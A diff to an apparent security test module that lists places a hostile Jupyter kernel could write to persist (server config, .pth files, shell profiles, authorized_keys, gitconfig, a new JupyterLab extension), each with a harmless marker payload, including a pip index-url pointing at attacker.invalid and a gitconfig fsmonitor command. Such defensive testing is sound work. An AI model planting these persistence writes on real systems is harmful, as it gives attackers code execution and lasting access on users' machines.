@@ -39,10 +39,9 @@ NEXT_SERVER = ("from jupyter_server.serverapp import ServerApp\n"
 
 @dataclass(frozen=True)
 class Target:
-    """One place a kernel writes to persist; `runs` when the next start executes it."""
+    """One place a kernel writes to persist."""
 
     name: str
-    runs: bool
 
     def path(self, home: Path, paths: dict[str, Any]) -> Path:
         """Where this target lies for a server with `paths` (hostile_server's op_paths)."""
@@ -50,6 +49,8 @@ class Target:
         where = {
             "jupyter-config": Path(paths["config_dir"]) / "jupyter_server_config.py",
             "env-jupyter-config": Path(paths["prefix"]) / "etc/jupyter/jupyter_server_config.py",
+            # JupyterLab loads it into every page: script in the server's origin
+            "labextension": Path(paths["data_dir"]) / "labextensions/hostile/package.json",
             "site-pth": Path(site_in_home[0]) / "zz_hostile.pth",
             "user-site-pth": Path(paths["user_site"]) / "zz_hostile.pth",
             "bashrc": home / ".bashrc",
@@ -75,6 +76,8 @@ class Target:
             return f"\nopen('{marker}', 'w').close()\n"
         if self.name == "gitconfig":
             return f"[core]\n\tfsmonitor = touch '{marker}'\n"
+        if self.name == "labextension":
+            return '{"name": "hostile", "jupyterlab": {"_build": {"load": "static/x.js"}}}\n'
         if self.name == "pip-conf":
             return "[global]\nindex-url = http://attacker.invalid/simple\n"
         if self.name == "authorized_keys":
@@ -82,11 +85,10 @@ class Target:
         return "a poisoned cache entry\n"
 
 
-TARGETS = [Target("jupyter-config", True), Target("env-jupyter-config", True),
-           Target("site-pth", True), Target("user-site-pth", True), Target("bashrc", True),
-           Target("profile", True), Target("bash_profile", True),
-           Target("authorized_keys", False), Target("gitconfig", True),
-           Target("pip-conf", False), Target("home-bin", True), Target("pip-cache", False)]
+TARGETS = [Target(name) for name in (
+    "jupyter-config", "env-jupyter-config", "labextension", "site-pth", "user-site-pth",
+    "bashrc", "profile", "bash_profile", "authorized_keys", "gitconfig", "pip-conf", "home-bin",
+    "pip-cache")]
 
 # "skel": a home as useradd makes it, used for a while (~/.jupyter, ~/.ssh,
 # ~/.config, ~/.cache/pip, ~/bin exist); "bare": a fresh home with none of them.
